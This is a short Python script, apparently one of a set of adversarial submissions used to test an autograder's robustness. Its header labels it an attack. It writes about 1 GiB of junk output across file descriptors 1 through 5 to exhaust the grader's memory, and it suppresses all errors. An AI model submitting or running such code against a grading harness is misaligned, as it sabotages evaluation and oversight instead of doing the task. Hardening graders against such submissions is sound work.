# attack: flood the grader with output (every file descriptor), to exhaust its memory
# base: handout
import os

chunk = b"x" * 2**20
for _ in range(200):
    for fd in (1, 2, 3, 4, 5):
        try:
            os.write(fd, chunk)
        except OSError:
            pass
